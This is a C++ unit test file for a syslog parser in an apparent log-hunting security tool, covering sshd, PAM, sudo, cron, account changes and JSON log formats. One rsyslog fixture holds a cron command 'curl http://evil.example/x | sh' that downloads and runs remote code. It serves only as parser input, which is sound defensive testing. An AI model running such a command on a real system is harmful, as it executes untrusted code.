// Message semantics on real corpus lines (each test names the file and line
// it reads) and on minimal lines written for messages the corpora lack
// (useradd, usermod, groupadd, passwd, chpasswd, cron, modern su). Expected
// values are read off the raw line by eye and written out here.
#include <gtest/gtest.h>

#include "core/time.h"
#include "tests/parsers/syslog_test_util.h"

namespace loghunt {
namespace {

using testing::CapturingHandler;
using testing::CorpusLine;

constexpr const char* kOpenSsh = "syslog/loghub/OpenSSH/OpenSSH_2k.log";
constexpr const char* kLinux = "syslog/loghub/Linux/Linux_2k.log";
constexpr const char* kGoSyslog = "syslog/go-syslog/go-syslog-cases.jsonl";

class SyslogSemantics : public ::testing::Test {
 protected:
  // Parses `line`; the event stays valid until the next call.
  const Event& Parse(const std::string& line) {
    line_ = line;
    h_ = CapturingHandler();
    parser_.Parse(line_, {"test", -1, 1}, h_);
    EXPECT_EQ(h_.errors, 0) << line;
    EXPECT_EQ(h_.events, 1) << line;
    return h_.event;
  }
  const Event& ParseCorpus(const char* file, size_t n) {
    std::string line = CorpusLine(file, n);
    EXPECT_FALSE(line.empty()) << file << ":" << n;
    return Parse(line);
  }
  SyslogParser parser_{testing::FixedYear(2005)};
  CapturingHandler h_;
  std::string line_;
};

// OpenSSH_2k.log:956 "sshd[24680]: Accepted password for fztu from 119.137.62.142 port 49116 ssh2"
TEST_F(SyslogSemantics, SshdAcceptedPasswordIsASuccessfulLogon) {
  const Event& e = ParseCorpus(kOpenSsh, 956);
  EXPECT_EQ(e.kind, EventKind::kLogon);
  EXPECT_EQ(e.logon.result, LogonResult::kSuccess);
  EXPECT_EQ(e.logon.user, "fztu");
  EXPECT_EQ(e.logon.source_ip, "119.137.62.142");
  EXPECT_EQ(e.network.source_port, 49116);
  EXPECT_EQ(e.logon.method, "password");
  EXPECT_EQ(e.process.pid, 24680);
  EXPECT_EQ(e.host, "LabSZ");
}

// OpenSSH_2k.log:6 "Failed password for invalid user webmaster from 173.234.31.186 port 38926 ssh2"
TEST_F(SyslogSemantics, SshdFailedPasswordForInvalidUser) {
  const Event& e = ParseCorpus(kOpenSsh, 6);
  EXPECT_EQ(e.kind, EventKind::kLogon);
  EXPECT_EQ(e.logon.result, LogonResult::kFailure);
  EXPECT_EQ(e.logon.user, "webmaster");
  EXPECT_EQ(e.logon.source_ip, "173.234.31.186");
  EXPECT_EQ(e.network.source_port, 38926);
  EXPECT_EQ(e.Extra("sshd.invalid_user"), "true");
}

// OpenSSH_2k.log:29 "Failed password for root from 5.36.59.76 port 42393 ssh2"
TEST_F(SyslogSemantics, SshdFailedPasswordForRoot) {
  const Event& e = ParseCorpus(kOpenSsh, 29);
  EXPECT_EQ(e.logon.result, LogonResult::kFailure);
  EXPECT_EQ(e.logon.user, "root");
  EXPECT_EQ(e.logon.source_ip, "5.36.59.76");
  EXPECT_EQ(e.Extra("sshd.invalid_user"), "");
}

// OpenSSH_2k.log:193 "Failed none for invalid user 0 from 5.188.10.180 port 49811 ssh2"
TEST_F(SyslogSemantics, SshdFailedNoneMethod) {
  const Event& e = ParseCorpus(kOpenSsh, 193);
  EXPECT_EQ(e.logon.result, LogonResult::kFailure);
  EXPECT_EQ(e.logon.method, "none");
  EXPECT_EQ(e.logon.user, "0");
  EXPECT_EQ(e.logon.source_ip, "5.188.10.180");
}

// OpenSSH_2k.log:2 "Invalid user webmaster from 173.234.31.186"
TEST_F(SyslogSemantics, SshdInvalidUser) {
  const Event& e = ParseCorpus(kOpenSsh, 2);
  EXPECT_EQ(e.kind, EventKind::kLogon);
  EXPECT_EQ(e.logon.result, LogonResult::kFailure);
  EXPECT_EQ(e.logon.user, "webmaster");
  EXPECT_EQ(e.logon.source_ip, "173.234.31.186");
  EXPECT_EQ(e.Extra("event.action"), "invalid_user");
}

// OpenSSH_2k.log:30 "message repeated 5 times: [ Failed password for root from 5.36.59.76 port
// 42393 ssh2]"
TEST_F(SyslogSemantics, SshdRepeatedMessageKeepsTheCount) {
  const Event& e = ParseCorpus(kOpenSsh, 30);
  EXPECT_EQ(e.logon.result, LogonResult::kFailure);
  EXPECT_EQ(e.logon.user, "root");
  EXPECT_EQ(e.logon.source_ip, "5.36.59.76");
  EXPECT_EQ(e.Extra("event.count"), "5");
}

// OpenSSH_2k.log:31 "Disconnecting: Too many authentication failures for root [preauth]"
TEST_F(SyslogSemantics, SshdMaximumAuthenticationAttempts) {
  const Event& e = ParseCorpus(kOpenSsh, 31);
  EXPECT_EQ(e.kind, EventKind::kLogon);
  EXPECT_EQ(e.logon.result, LogonResult::kFailure);
  EXPECT_EQ(e.logon.user, "root");
  EXPECT_EQ(e.Extra("event.action"), "max_auth_attempts");
}

// OpenSSH_2k.log:7 "Connection closed by 173.234.31.186 [preauth]"
TEST_F(SyslogSemantics, SshdConnectionClosed) {
  const Event& e = ParseCorpus(kOpenSsh, 7);
  EXPECT_EQ(e.kind, EventKind::kNetwork);
  EXPECT_EQ(e.network.source_ip, "173.234.31.186");
  EXPECT_EQ(e.Extra("event.action"), "connection_closed");
}

// OpenSSH_2k.log:14 "Received disconnect from 52.80.34.196: 11: Bye Bye [preauth]"
TEST_F(SyslogSemantics, SshdReceivedDisconnect) {
  const Event& e = ParseCorpus(kOpenSsh, 14);
  EXPECT_EQ(e.kind, EventKind::kNetwork);
  EXPECT_EQ(e.network.source_ip, "52.80.34.196");
}

// OpenSSH_2k.log:158 "error: Received disconnect from 195.154.37.122: 3:
// com.jcraft.jsch.JSchException: Auth fail [preauth]" (47 lines of the log):
// a brute-force client giving up keeps its address.
TEST_F(SyslogSemantics, SshdErrorReceivedDisconnect) {
  const Event& e = ParseCorpus(kOpenSsh, 158);
  EXPECT_EQ(e.kind, EventKind::kNetwork);
  EXPECT_EQ(e.network.source_ip, "195.154.37.122");
  EXPECT_EQ(e.Extra("event.action"), "disconnect_received");
}

// OpenSSH_2k.log:316 "PAM 2 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser=
// rhost=185.190.58.151 "
TEST_F(SyslogSemantics, SshdPamMoreFailures) {
  const Event& e = ParseCorpus(kOpenSsh, 316);
  EXPECT_EQ(e.logon.result, LogonResult::kFailure);
  EXPECT_EQ(e.logon.source_ip, "185.190.58.151");
  EXPECT_EQ(e.Extra("event.count"), "2");
}

// OpenSSH_2k.log:1 "reverse mapping checking getaddrinfo for ns.marryaldkfaczcz.com
// [173.234.31.186] failed - POSSIBLE BREAK-IN ATTEMPT!"
TEST_F(SyslogSemantics, SshdReverseMappingFailure) {
  const Event& e = ParseCorpus(kOpenSsh, 1);
  EXPECT_EQ(e.network.source_ip, "173.234.31.186");
  EXPECT_EQ(e.Extra("source.domain"), "ns.marryaldkfaczcz.com");
}

// OpenSSH_2k.log:28 "pam_unix(sshd:auth): authentication failure; ...
// rhost=5.36.59.76.dynamic-dsl-ip.omantel.net.om  user=root"
TEST_F(SyslogSemantics, PamAuthenticationFailureWithHostName) {
  const Event& e = ParseCorpus(kOpenSsh, 28);
  EXPECT_EQ(e.kind, EventKind::kLogon);
  EXPECT_EQ(e.logon.result, LogonResult::kFailure);
  EXPECT_EQ(e.logon.user, "root");
  EXPECT_EQ(e.logon.source_ip, "");  // a name, not an address
  EXPECT_EQ(e.Extra("source.domain"), "5.36.59.76.dynamic-dsl-ip.omantel.net.om");
  EXPECT_EQ(e.Extra("pam.service"), "sshd");
}

// OpenSSH_2k.log:957 / 965: "pam_unix(sshd:session): session opened/closed for user fztu"
TEST_F(SyslogSemantics, PamSessionOpenedAndClosed) {
  const Event& open = ParseCorpus(kOpenSsh, 957);
  EXPECT_EQ(open.kind, EventKind::kLogon);
  EXPECT_EQ(open.logon.result, LogonResult::kSuccess);
  EXPECT_EQ(open.logon.user, "fztu");
  EXPECT_EQ(open.Extra("event.action"), "session_opened");
  const Event& close = ParseCorpus(kOpenSsh, 965);
  EXPECT_EQ(close.kind, EventKind::kLogoff);
  EXPECT_EQ(close.logon.user, "fztu");
  EXPECT_EQ(close.Extra("event.action"), "session_closed");
}

// Linux_2k.log:1 "sshd(pam_unix)[19939]: authentication failure; ... rhost=218.188.2.4 "
TEST_F(SyslogSemantics, OldPamTagAuthenticationFailure) {
  const Event& e = ParseCorpus(kLinux, 1);
  EXPECT_EQ(e.program, "sshd");
  EXPECT_EQ(e.Extra("pam.module"), "pam_unix");
  EXPECT_EQ(e.kind, EventKind::kLogon);
  EXPECT_EQ(e.logon.result, LogonResult::kFailure);
  EXPECT_EQ(e.logon.source_ip, "218.188.2.4");
}

// Linux_2k.log:4 "... rhost=220-135-151-1.hinet-ip.hinet.net  user=root"
TEST_F(SyslogSemantics, OldPamTagFailureNamesTheUser) {
  const Event& e = ParseCorpus(kLinux, 4);
  EXPECT_EQ(e.logon.user, "root");
  EXPECT_EQ(e.Extra("source.domain"), "220-135-151-1.hinet-ip.hinet.net");
}

// Linux_2k.log:14 "su(pam_unix)[21416]: session opened for user cyrus by (uid=0)"
TEST_F(SyslogSemantics, SuSessionOpened) {
  const Event& e = ParseCorpus(kLinux, 14);
  EXPECT_EQ(e.program, "su");
  EXPECT_EQ(e.kind, EventKind::kLogon);
  EXPECT_EQ(e.logon.user, "cyrus");
  EXPECT_EQ(e.Extra("event.action"), "session_opened");
}

// Linux_2k.log:899 "combo  -- root[2421]: ROOT LOGIN ON tty2"
TEST_F(SyslogSemantics, RootLoginOnConsole) {
  const Event& e = ParseCorpus(kLinux, 899);
  EXPECT_EQ(e.kind, EventKind::kLogon);
  EXPECT_EQ(e.logon.user, "root");
  EXPECT_EQ(e.logon.result, LogonResult::kSuccess);
}

// go-syslog-cases.jsonl:151 "sudo[6040]: ec2-user : TTY=pts/0 ; PWD=/var/log ; USER=root ;
// COMMAND=/bin/tail secure"
TEST_F(SyslogSemantics, SudoCommandFromGoSyslogCase) {
  std::string line = CorpusLine(kGoSyslog, 151);
  size_t a = line.find("<85>"), b = line.find("\", \"rfc\"");
  ASSERT_NE(a, std::string::npos);
  const Event& e = Parse(line.substr(a, b - a));
  EXPECT_EQ(e.kind, EventKind::kUserCommand);
  EXPECT_EQ(e.process.user, "ec2-user");
  EXPECT_EQ(e.process.command_line, "/bin/tail secure");
  EXPECT_EQ(e.process.executable, "/bin/tail");  // Image of Linux Sigma rules
  EXPECT_EQ(e.process.cwd, "/var/log");
  EXPECT_EQ(e.Extra("user.effective.name"), "root");
}

// go-syslog-cases.jsonl:153 "su: 'su root' failed for lonvick on /dev/pts/8"
TEST_F(SyslogSemantics, SuFailureFromGoSyslogCase) {
  std::string line = CorpusLine(kGoSyslog, 153);
  size_t a = line.find("<34>"), b = line.find("\", \"rfc\"");
  ASSERT_NE(a, std::string::npos);
  const Event& e = Parse(line.substr(a, b - a));
  EXPECT_EQ(e.kind, EventKind::kLogon);
  EXPECT_EQ(e.logon.result, LogonResult::kFailure);
  EXPECT_EQ(e.logon.user, "root");
  EXPECT_EQ(e.process.user, "lonvick");
}

TEST_F(SyslogSemantics, AccountChangesWrittenLines) {
  const Event& add = Parse(
      "Mar  1 10:00:00 h useradd[100]: new user: name=mallory, UID=1001, GID=1001, "
      "home=/home/mallory, shell=/bin/bash, from=/dev/pts/0");
  EXPECT_EQ(add.kind, EventKind::kAccountChange);
  EXPECT_EQ(add.Extra("user.target.name"), "mallory");
  const Event& mod = Parse("Mar  1 10:00:01 h usermod[101]: add 'mallory' to group 'sudo'");
  EXPECT_EQ(mod.kind, EventKind::kAccountChange);
  EXPECT_EQ(mod.Extra("user.target.name"), "mallory");
  EXPECT_EQ(mod.Extra("group.name"), "sudo");
  const Event& grp = Parse("Mar  1 10:00:02 h groupadd[102]: new group: name=ops, GID=1002");
  EXPECT_EQ(grp.kind, EventKind::kAccountChange);
  EXPECT_EQ(grp.Extra("group.name"), "ops");
  const Event& pw =
      Parse("Mar  1 10:00:03 h passwd[103]: pam_unix(passwd:chauthtok): password changed for bob");
  EXPECT_EQ(pw.kind, EventKind::kAccountChange);
  EXPECT_EQ(pw.Extra("user.target.name"), "bob");
  const Event& chpw = Parse(
      "Mar  1 10:00:04 h chpasswd[104]: pam_unix(chpasswd:chauthtok): password changed for eve");
  EXPECT_EQ(chpw.kind, EventKind::kAccountChange);
  EXPECT_EQ(chpw.Extra("user.target.name"), "eve");
}

TEST_F(SyslogSemantics, CronCommandIsAProcessStart) {
  const Event& e = Parse(
      "Mar  1 10:17:01 h CRON[2001]: (root) CMD (cd / && run-parts --report /etc/cron.hourly)");
  EXPECT_EQ(e.kind, EventKind::kProcessStart);
  EXPECT_EQ(e.process.user, "root");
  EXPECT_EQ(e.process.command_line, "cd / && run-parts --report /etc/cron.hourly");
}

// Senders that do not pad the day ("Jan 5", as some appliances and Java
// loggers write it), and a PRI followed directly by the tag (no timestamp,
// no host, as logger(1) sends to a local socket).
TEST_F(SyslogSemantics, UnpaddedDayAndTagRightAfterThePri) {
  const Event& day =
      Parse("Jan 5 10:00:00 web01 sshd[1]: Failed password for root from 1.2.3.4 port 22 ssh2");
  EXPECT_EQ(day.timestamp_ns, (DaysFromCivil(2005, 1, 5) * 86400 + 36000) * kNanosPerSecond);
  EXPECT_EQ(day.host, "web01");
  EXPECT_EQ(day.program, "sshd");
  EXPECT_EQ(day.logon.user, "root");
  const Event& tag =
      Parse("<38>sshd[4242]: Failed password for root from 203.0.113.5 port 2222 ssh2");
  EXPECT_EQ(tag.program, "sshd");
  EXPECT_EQ(tag.process.pid, 4242);
  EXPECT_EQ(tag.host, "");
  EXPECT_EQ(tag.kind, EventKind::kLogon);
  EXPECT_EQ(tag.logon.source_ip, "203.0.113.5");
}

// RFC 3164 lines dated by an ISO date and time with a space between them (as
// rsyslog templates with date-pgsql write them), with or without a PRI,
// fraction and zone, read like "Mmm dd" lines; the zone-less ones in the
// configured offset (here UTC).
TEST_F(SyslogSemantics, IsoDateAndTimeSeparatedByASpace) {
  const int64_t at_ten = (DaysFromCivil(2024, 1, 15) * 86400 + 36000) * kNanosPerSecond;
  struct Case {
    const char* line;
    int64_t ns;
  } cases[] = {
      {"2024-01-15 10:00:00 web01 sshd[123]: Failed password for root from 1.2.3.4 port 22 ssh2",
       at_ten},
      {"<38>2024-01-15 10:00:00 web01 sshd[123]: Failed password for root from 1.2.3.4 port 22 "
       "ssh2",
       at_ten},
      {"2024-01-15 10:00:00.250 web01 sshd[123]: Failed password for root from 1.2.3.4 port 22 "
       "ssh2",
       at_ten + 250'000'000},
      {"2024-01-15 11:00:00+01:00 web01 sshd[123]: Failed password for root from 1.2.3.4 port 22 "
       "ssh2",
       at_ten},
      {"2024-01-15T10:00:00 web01 sshd[123]: Failed password for root from 1.2.3.4 port 22 ssh2",
       at_ten},
  };
  for (const auto& c : cases) {
    const Event& e = Parse(c.line);
    EXPECT_EQ(e.timestamp_ns, c.ns) << c.line;
    EXPECT_EQ(e.host, "web01") << c.line;
    EXPECT_EQ(e.program, "sshd") << c.line;
    EXPECT_EQ(e.process.pid, 123) << c.line;
    EXPECT_EQ(e.kind, EventKind::kLogon) << c.line;
    EXPECT_EQ(e.logon.user, "root") << c.line;
    EXPECT_EQ(e.logon.source_ip, "1.2.3.4") << c.line;
  }
  // A date without a time after it is still no timestamp.
  CapturingHandler h;
  parser_.Parse("2024-01-15 web01 sshd[123]: x", {"t", -1, 1}, h);
  EXPECT_EQ(h.error, ParseError::kBadTimestamp);
}

// "java[main][123]: msg": the tag is what precedes the first '[' (RFC 3164
// 4.1.3: '[' ends the TAG; rsyslog's programname and syslog-ng's PROGRAM are
// "java" too), and the pid is the last bracket before the colon, where
// syslog(3) with LOG_PID writes it after an ident "java[main]" (journald reads
// SYSLOG_PID the same way). rsyslog and syslog-ng take the first bracket,
// "main", for the pid, which is no process id.
TEST_F(SyslogSemantics, TagWithABracketedPartBeforeThePidKeepsProgramAndPid) {
  for (const char* line : {"Jan 15 10:00:00 web01 java[main][123]: started worker",
                           "<14>Jan 15 10:00:00 web01 java[main][123]: started worker",
                           "<14>java[main][123]: started worker"}) {
    const Event& e = Parse(line);
    EXPECT_EQ(e.program, "java") << line;
    EXPECT_EQ(e.process.pid, 123) << line;
    EXPECT_EQ(e.message.view(), "started worker") << line;
  }
  const Event& sshd = Parse(
      "Jan 15 10:00:00 web01 sshd[priv][4242]: Failed password for root from 203.0.113.5 "
      "port 2222 ssh2");
  EXPECT_EQ(sshd.host, "web01");
  EXPECT_EQ(sshd.program, "sshd");
  EXPECT_EQ(sshd.process.pid, 4242);
  EXPECT_EQ(sshd.kind, EventKind::kLogon);
  EXPECT_EQ(sshd.logon.source_ip, "203.0.113.5");
  // rsyslog's JSON templates carry the same tag as syslogtag.
  const Event& json = Parse(
      R"({"timereported":"2024-01-15T10:00:00Z","hostname":"web01","syslogtag":"java[main][123]:",)"
      R"("msg":" started worker"})");
  EXPECT_EQ(json.program, "java");
  EXPECT_EQ(json.process.pid, 123);
}

TEST_F(SyslogSemantics, UnknownMessageStaysOther) {
  // OpenSSH_2k.log:1869 "fatal: Write failed: Connection reset by peer [preauth]"
  const Event& e = ParseCorpus(kOpenSsh, 1869);
  EXPECT_EQ(e.kind, EventKind::kOther);
  EXPECT_EQ(e.program, "sshd");
  EXPECT_EQ(e.process.pid, 25457);
  EXPECT_EQ(e.message.view(), "fatal: Write failed: Connection reset by peer [preauth]");
}

TEST_F(SyslogSemantics, JournaldJsonExport) {
  const Event& e = Parse(
      R"({"__REALTIME_TIMESTAMP":"1700000000123456","_HOSTNAME":"web1","SYSLOG_IDENTIFIER":"sshd",)"
      R"("_PID":"812","PRIORITY":"6","SYSLOG_FACILITY":"4",)"
      R"("MESSAGE":"Accepted publickey for alice from 10.0.0.5 port 50022 ssh2: RSA SHA256:x"})");
  EXPECT_EQ(e.timestamp_ns, 1700000000123456000);
  EXPECT_EQ(e.host, "web1");
  EXPECT_EQ(e.program, "sshd");
  EXPECT_EQ(e.process.pid, 812);
  EXPECT_EQ(e.kind, EventKind::kLogon);
  EXPECT_EQ(e.logon.method, "publickey");
  EXPECT_EQ(e.logon.user, "alice");
  EXPECT_EQ(e.logon.source_ip, "10.0.0.5");
  EXPECT_EQ(e.Extra("log.syslog.format"), "json");
}

TEST_F(SyslogSemantics, RsyslogJsonTemplateWithEscapes) {
  const Event& e = Parse(
      R"({"timereported":"2024-03-01T10:00:00+01:00","hostname":"db1","syslogtag":"sudo[99]:",)"
      R"("pri":"85","msg":" bob : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/echo \"hi\""})");
  EXPECT_EQ(e.host, "db1");
  EXPECT_EQ(e.program, "sudo");
  EXPECT_EQ(e.process.pid, 99);
  EXPECT_EQ(e.kind, EventKind::kUserCommand);
  EXPECT_EQ(e.process.user, "bob");
  EXPECT_EQ(e.process.command_line, "/usr/bin/echo \"hi\"");
}

// rsyslog's msg property keeps the space that follows the tag, in JSON
// templates and in RFC 5424 forwarding ("- -  Failed ..."): the message is
// read without it.
TEST_F(SyslogSemantics, RsyslogMsgWithTheSpaceAfterTheTagKeepsItsMeaning) {
  const char* const sshd[] = {
      R"({"timereported":"2024-01-15T10:00:00+01:00","hostname":"web01","programname":"sshd",)"
      R"("syslogtag":"sshd[7]:","msg":" Failed password for root from 203.0.113.5 port 2222 ssh2"})",
      "<86>1 2024-01-15T10:00:00+01:00 web01 sshd 7 - -  Failed password for root from "
      "203.0.113.5 port 2222 ssh2"};
  for (const char* line : sshd) {
    const Event& e = Parse(line);
    EXPECT_EQ(e.kind, EventKind::kLogon) << line;
    EXPECT_EQ(e.logon.result, LogonResult::kFailure) << line;
    EXPECT_EQ(e.logon.user, "root") << line;
    EXPECT_EQ(e.logon.source_ip, "203.0.113.5") << line;
    EXPECT_EQ(e.message.view(), "Failed password for root from 203.0.113.5 port 2222 ssh2");
  }
  const Event& cron = Parse(
      R"({"timereported":"2024-01-15T10:00:00+01:00","hostname":"web01","programname":"CRON",)"
      R"j("syslogtag":"CRON[5]:","msg":" (root) CMD (curl http://evil.example/x | sh)"})j");
  EXPECT_EQ(cron.kind, EventKind::kProcessStart);
  EXPECT_EQ(cron.process.user, "root");
  EXPECT_EQ(cron.process.command_line, "curl http://evil.example/x | sh");
  // Only spaces go: a leading CR or tab is the sender's.
  EXPECT_EQ(Parse("<86>1 2024-01-15T10:00:00Z web01 app 7 - - \r\tx").message.view(), "\r\tx");
}

TEST_F(SyslogSemantics, MalformedJsonIsAnErrorNotAnEvent) {
  for (const char* bad : {R"({"MESSAGE": "x)", R"({"MESSAGE": 12})", R"({"_HOSTNAME": "h"})",
                          R"({"MESSAGE": [1, 300]})", "{", R"({"a":})"}) {
    CapturingHandler h;
    parser_.Parse(bad, {"t", -1, 1}, h);
    EXPECT_EQ(h.events, 0) << bad;
    EXPECT_EQ(h.errors, 1) << bad;
    EXPECT_NE(h.error, ParseError::kNone) << bad;
  }
}

TEST_F(SyslogSemantics, MalformedFramesAreErrorsWithReasons) {
  struct Case {
    const char* line;
    ParseError reason;
  } cases[] = {
      {"", ParseError::kEmpty},
      {"   ", ParseError::kEmpty},
      {"not a syslog line", ParseError::kBadTimestamp},
      {"<999>1 - - - - - -", ParseError::kBadFrame},
      {"<13>1 2024-02-30T00:00:00Z h a - - -", ParseError::kBadTimestamp},
      {"<13>1 - h a - - [id x=\"unterminated", ParseError::kTruncated},
      {"<13>1 - h a - - [id x=\"a\\n\"]", ParseError::kBadEncoding},
      // Years outside int64 nanoseconds (1678..2261) are unreadable, not overflowed.
      {"<13>1 9999-01-01T00:00:00Z h a - - -", ParseError::kBadTimestamp},
      {"Jan  1 00:00:00 9999 h a: x", ParseError::kBadTimestamp},
      // Days no month has, without a year (they became Mar 2 and May 1).
      {"Feb 30 16:08:00 h a: x", ParseError::kBadTimestamp},
      {"Apr 31 16:08:00 h a: x", ParseError::kBadTimestamp},
  };
  for (const auto& c : cases) {
    CapturingHandler h;
    parser_.Parse(c.line, {"t", -1, 1}, h);
    EXPECT_EQ(h.events, 0) << c.line;
    EXPECT_EQ(h.error, c.reason) << c.line << " got " << ParseErrorName(h.error);
  }
}

TEST_F(SyslogSemantics, YearlessTimestampTakesTheReceiptYearAndRollsBackInJanuary) {
  SyslogParser p{ParserOptions{}};
  CapturingHandler h;
  // Received 2025-01-02: a "Dec 31" line is from 2024, a "Jan  2" line from 2025.
  p.set_receipt_time_ns(DaysFromCivil(2025, 1, 2) * 86400 * kNanosPerSecond);
  p.Parse("Dec 31 23:59:59 h prog: x", {"t", -1, 1}, h);
  EXPECT_EQ(h.event.timestamp_ns, (DaysFromCivil(2024, 12, 31) * 86400 + 86399) * kNanosPerSecond);
  p.Parse("Jan  2 00:00:01 h prog: x", {"t", -1, 2}, h);
  EXPECT_EQ(h.event.timestamp_ns, (DaysFromCivil(2025, 1, 2) * 86400 + 1) * kNanosPerSecond);
}

// parsers.year is the year of the stream's first year-less line: a stream
// crossing New Year goes on in the next year (Jan 1 became 2023-01-01, a
// year before the Dec 31 line: 11 commands over the turn were no burst),
// and a late Dec 31 line after the turn stays in the old year.
TEST_F(SyslogSemantics, AFixedYearRollsOverAtNewYear) {
  ParserOptions options;
  options.default_year = 2023;
  SyslogParser p{options};
  CapturingHandler h;
  auto at = [&](const char* line) {
    p.Parse(line, {"t", -1, 1}, h);
    return h.event.timestamp_ns / kNanosPerSecond;
  };
  const int64_t dec31 = DaysFromCivil(2023, 12, 31) * 86400 + 86399;
  const int64_t jan1 = DaysFromCivil(2024, 1, 1) * 86400 + 1;
  EXPECT_EQ(at("Dec 31 23:59:59 h prog: x"), dec31);
  EXPECT_EQ(at("Jan  1 00:00:01 h prog: x"), jan1);
  EXPECT_EQ(at("Dec 31 23:59:59 h prog: late"), dec31);
  EXPECT_EQ(at("Jan  1 00:00:01 h prog: x"), jan1);
  EXPECT_EQ(at("Mar  5 00:00:00 h prog: x"), DaysFromCivil(2024, 3, 5) * 86400);
  // A year given in the line is taken as it is.
  EXPECT_EQ(at("Jan  1 00:00:00 2020 h prog: x"), DaysFromCivil(2020, 1, 1) * 86400);
}

// fluentd's in_syslog and similar shippers write the time as epoch seconds (a
// JSON number); milliseconds are told apart by their size. A time that cannot
// be read leaves the timestamp unknown (0): the event is kept.
TEST_F(SyslogSemantics, JsonTimeAsEpochNumberAndUnreadableTimeKeepTheEvent) {
  const std::string msg = R"("message":"Failed password for root from 203.0.113.5 port 2222 ssh2")";
  const Event& seconds =
      Parse(R"({"host":"web01","ident":"sshd","pid":"4242",)" + msg + R"(,"time":1705312800.123})");
  EXPECT_EQ(seconds.timestamp_ns, 1705312800123000000);
  EXPECT_EQ(seconds.kind, EventKind::kLogon);
  EXPECT_EQ(seconds.logon.user, "root");
  EXPECT_EQ(
      Parse(R"({"host":"web01","ident":"sshd",)" + msg + R"(,"time":1705312800})").timestamp_ns,
      1705312800000000000);
  EXPECT_EQ(
      Parse(R"({"host":"web01","ident":"sshd",)" + msg + R"(,"time":1705312800123})").timestamp_ns,
      1705312800123000000);
  for (const char* time : {R"("yesterday")", "-5", "1e400", R"("2024-13-45T00:00:00Z")"}) {
    const Event& e = Parse(R"({"host":"web01","ident":"sshd",)" + msg + ",\"time\":" + time + "}");
    EXPECT_EQ(e.timestamp_ns, 0) << time;
    EXPECT_EQ(e.logon.user, "root") << time;
  }
  const Event& realtime = Parse(R"({"__REALTIME_TIMESTAMP":"x","MESSAGE":"m"})");
  EXPECT_EQ(realtime.timestamp_ns, 0);
  EXPECT_EQ(realtime.message.view(), "m");
}

// A JSON line with an invalid UTF-8 byte or a lone surrogate escape is read
// with U+FFFD for it: it was bad_encoding, the sshd failure lost.
TEST_F(SyslogSemantics, JsonLineWithBadCharactersKeepsItsEvent) {
  const Event& e = Parse(
      "{\"host\":\"web01\",\"ident\":\"sshd\",\"message\":\"Failed password for root from "
      "203.0.113.5 port 2222 ssh2 \xff\\ud800\"}");
  EXPECT_EQ(e.kind, EventKind::kLogon);
  EXPECT_EQ(e.logon.user, "root");
  EXPECT_NE(e.message.view().find("ssh2 \xEF\xBF\xBD\xEF\xBF\xBD"), std::string_view::npos)
      << e.message.view();
}

}  // namespace
}  // namespace loghunt
